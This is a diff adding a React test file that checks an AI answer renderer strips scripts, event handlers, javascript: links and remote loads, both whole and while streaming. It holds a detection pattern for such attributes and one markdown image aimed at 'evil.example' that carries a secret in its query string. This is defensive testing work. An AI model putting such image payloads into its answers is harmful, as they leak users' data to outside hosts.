@@ -1,0 +1,82 @@
+import { render } from '@testing-library/react';
+import { withTexts } from '../../../../test/texts';
+import { HOSTILE } from './hostile.fixture';
+import Rendered from './rendered';
+
+beforeAll(withTexts);
+
+const ALLOWED = new Set(
+  'A B BLOCKQUOTE BR BUTTON CIRCLE CODE DEL DIV EM FIGCAPTION FIGURE H2 H3 H4 H5 H6 HR INPUT LI LINE OL P PATH PRE RECT SECTION SPAN STRONG SUP SVG TABLE TBODY TD TH THEAD TR UL POLYLINE POLYGON'.split(' '),
+);
+
+/** Everything in a rendered answer that could run, load or lead astray. */
+function dangers(root: HTMLElement): string[] {
+  const found: string[] = [];
+  for (const element of root.querySelectorAll('*')) {
+    const tag = element.tagName.toUpperCase();
+    if (!ALLOWED.has(tag)) found.push(`<${tag}>`);
+    for (const { name, value } of element.attributes) {
+      if (name.startsWith('on') || name === 'srcdoc' || name === 'action' || name === 'formaction') found.push(`${tag}[${name}]`);
+      if (['src', 'srcset', 'poster', 'data', 'background', 'xlink:href'].includes(name)) found.push(`${tag}[${name}=${value}]`);
+      if (name === 'href' && !/^(https?:|mailto:|#|\/(?!\/))/i.test(value)) found.push(`${tag}[href=${value}]`);
+      if (name === 'style' && /url\(|expression/i.test(value)) found.push(`${tag}[style=${value}]`);
+    }
+  }
+  return found;
+}
+
+describe('a hostile answer', () => {
+  it.each(HOSTILE)('stays harmless, whole and streamed: %s', (text) => {
+    const whole = render(<Rendered text={text} live={false} />);
+    expect(dangers(whole.container)).toEqual([]);
+    whole.unmount();
+    // Every prefix is on screen for a moment while the answer streams.
+    const streamed = render(<Rendered text="" live />);
+    for (let end = 1; end <= text.length; end += 1) {
+      streamed.rerender(<Rendered text={text.slice(0, end)} live />);
+      const found = dangers(streamed.container);
+      if (found.length > 0) throw new Error(`after ${end} characters: ${found.join(', ')}`);
+    }
+  });
+});
+
+describe('an answer', () => {
+  const html = (text: string, live = false) => render(<Rendered text={text} live={live} />).container;
+
+  it('has real links that open elsewhere and tell nothing about this page', () => {
+    const link = html('[docs](https://example.org/a)').querySelector('a')!;
+    expect(link.getAttribute('href')).toBe('https://example.org/a');
+    expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer']);
+  });
+
+  it('names a picture instead of loading it', () => {
+    const view = html('![cat](https://evil.example/x.png?q=secret)');
+    expect(view.querySelector('img')).toBeNull();
+    expect(view.textContent).toContain('Image not loaded');
+  });
+
+  it('keeps HTML as text', () => {
+    expect(html('Use <b>bold</b> tags.').textContent).toContain('<b>bold</b>');
+  });
+
+  it('keeps one code box while the fence is still open, with the code as it is', () => {
+    const view = html('```ts\nconst a = 1;\n', true);
+    expect(view.querySelectorAll('figure')).toHaveLength(1);
+    expect(view.querySelector('pre code')?.textContent).toBe('const a = 1;');
+    expect(view.querySelector('figcaption')?.textContent).toContain('ts');
+  });
+
+  it('does not take two prices for a formula', () => {
+    expect(html('It costs $5 and then $6 more.').textContent).toBe('It costs $5 and then $6 more.');
+  });
+
+  it('finds the direction of every block by itself', () => {
+    const directions = [...html('Hello there.\n\nשלום לכולם.', true).querySelectorAll('[dir]')].map((element) => element.getAttribute('dir'));
+    expect(directions).toEqual(['ltr', 'rtl']);
+  });
+
+  it('shows tables and task lists', () => {
+    expect(html('| a | b |\n|---|---|\n| 1 | 2 |').querySelectorAll('td')).toHaveLength(2);
+    expect(html('- [x] done').querySelector('input')?.getAttribute('type')).toBe('checkbox');
+  });
+});
